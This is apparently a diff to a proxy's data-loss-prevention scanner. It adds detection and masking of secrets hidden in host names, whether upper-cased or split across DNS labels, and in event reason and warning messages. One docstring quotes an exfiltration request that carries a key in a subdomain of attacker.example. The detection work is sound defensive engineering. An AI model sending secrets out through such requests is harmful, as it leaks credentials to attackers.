@@ -103,6 +103,42 @@ def _cookie_value_spans(value: str) -> list[tuple[int, int]]:
     return spans
 
 
+# Bounds of host_spellings' label runs: a name has at most 127 labels, a key a few hundred characters.
+MAX_LABELS = 127
+JOINED_MAX = 256
+
+
+def host_spellings(host: str) -> list[str]:
+    """The spellings of a host name a secret may hide in: as written and upper-cased (hosts are
+    case-insensitive and clients lower-case them; an AWS key id only matches in upper case), then,
+    for a dotted name, every run of consecutive labels joined without their dots, one per line (a
+    DNS label holds at most 63 characters, so a longer key must be split across labels, and a short
+    one can be; a run ends where its last label does, so a rule's end boundary still holds). Runs are
+    at most JOINED_MAX characters long."""
+    spellings = [host, host.upper()]
+    labels = [label for label in host.split(".") if label][:MAX_LABELS]
+    runs = []
+    for i in range(len(labels)):
+        joined = labels[i]
+        for label in labels[i + 1 :]:
+            joined += label
+            if len(joined) > JOINED_MAX:
+                break
+            runs.append(joined)
+    if runs:
+        text = "\n".join(runs)
+        spellings += [text, text.upper()]
+    return list(dict.fromkeys(spellings))
+
+
+def host_hits(engine: DlpEngine, host: str) -> list[Hit]:
+    """Secrets in a host name, in the first of its spellings that has any (see host_spellings)."""
+    for spelling in host_spellings(host):
+        if found := engine.scan(spelling):
+            return found
+    return []
+
+
 def foreign_credential_hits(engine: DlpEngine, headers: list[tuple[str, str]]) -> list[Hit]:
     """Secrets in credential headers that are not the header's own credential: an AWS key in a Cookie,
     a key appended after a Bearer token. A key that *is* the Authorization/X-Api-Key value is what
@@ -211,10 +247,10 @@ def _mask_headers(
         line_start += len(line)
     for pair in pairs:
         if pair[0].lower() in HOST_HEADERS and not pair[1].startswith("[redacted "):
-            upper = scanner.engine.scan(pair[1].upper())
-            if upper:  # a lower-cased host (see HOST_HEADERS): masked like any header value
-                pair[1] = f"[redacted {', '.join(dict.fromkeys(h.fingerprint for h in upper))}]"
-                out.extend(_hit_record(scanner, h, f"{where}.header:{pair[0].lower()}") for h in upper)
+            other = host_hits(scanner.engine, pair[1])
+            if other:  # a lower-cased or split host (see host_spellings): masked like any header value
+                pair[1] = _redacted(other)
+                out.extend(_hit_record(scanner, h, f"{where}.header:{pair[0].lower()}") for h in other)
     if named:
         out.extend(_hit_record(scanner, replace(h, location=None), f"{where}.header-name") for h in named)
         for pair in message.get("headers", []):
@@ -226,22 +262,58 @@ def _mask_headers(
 def _mask_target_host(scanner: DlpScanner, event: dict[str, Any]) -> list[Hit]:
     """A secret in the host the proxy connected to (`GET http://<key>.attacker.example/` with a harmless
     Host header, or a CONNECT's target): masked in `target.host` and the summary, not only in the URL.
-    Hosts are case-insensitive and HTTP clients lower-case them, so the upper-cased host is scanned
-    too (an AWS key id only matches in upper case); its hits are returned to be recorded."""
+    Its other spellings are scanned too (see host_spellings); their hits are returned to be recorded
+    (those as written are recorded with the URL's)."""
     target = event.get("target")
     host = target.get("host") if isinstance(target, dict) else None
     if not isinstance(host, str) or not host:
         return []
     found = scanner.engine.scan(host)
-    upper = [] if found else scanner.engine.scan(host.upper())
-    if not found and not upper:
-        return []
-    masked = mask_text(host, found) if found else mask_text(host.upper(), upper).lower()
+    if found:
+        masked = mask_text(host, found)
+        other: list[Hit] = []
+    else:
+        other = host_hits(scanner.engine, host)
+        if not other:
+            return []
+        masked = _redacted(other)
     target["host"] = masked  # type: ignore[index]
     summary = event.get("summary")
     if isinstance(summary, str) and host in summary:
         event["summary"] = summary.replace(host, masked)
-    return upper
+    return other
+
+
+def _mask_said(scanner: DlpScanner, event: dict[str, Any], out: list[dict[str, Any]]) -> None:
+    """The event's reason and warning messages quote what they are about (a host, a TLS SNI): a secret
+    in them, as written or upper-cased, is masked there too."""
+    reason = event.get("reason")
+    if isinstance(reason, str) and reason:
+        event["reason"] = _masked_prose(scanner, reason, "reason", out)
+    for warning in event.get("warnings") or []:
+        message = warning.get("message") if isinstance(warning, dict) else None
+        if isinstance(message, str) and message:
+            warning["message"] = _masked_prose(scanner, message, "warning", out)
+
+
+def _masked_prose(scanner: DlpScanner, text: str, where: str, out: list[dict[str, Any]]) -> str:
+    found = scanner.engine.scan(text)
+    if found:
+        out.extend(_hit_record(scanner, h, where) for h in found)
+        return mask_text(text, found)
+    upper = text.upper()
+    found = scanner.engine.scan(upper)
+    if not found:
+        return text
+    out.extend(_hit_record(scanner, h, where) for h in found)
+    if upper.encode() == text.encode().upper():  # ASCII case mapping: the same byte offsets
+        return mask_text(text, found)
+    return _redacted(found)
+
+
+def _redacted(hits: list[Hit]) -> str:
+    """What stands for a whole value a secret was found in: the hits' fingerprints."""
+    return f"[redacted {', '.join(dict.fromkeys(h.fingerprint for h in hits))}]"
 
 
 def scan_event(scanner: DlpScanner, event: dict[str, Any], past_cap: Sequence[PastCapScan] = ()) -> None:
@@ -270,6 +342,7 @@ def scan_event(scanner: DlpScanner, event: dict[str, Any], past_cap: Sequence[Pa
         before = len(hits)
         _mask_body(scanner, (request or {}).get("body"), "request.body", hits)
         _add_taint((request or {}).get("body"), hits[before:])
+        _mask_said(scanner, event, hits)
     if s.scan_response:
         response = event.get("response")
         _mask_headers(scanner, response, "response", hits)
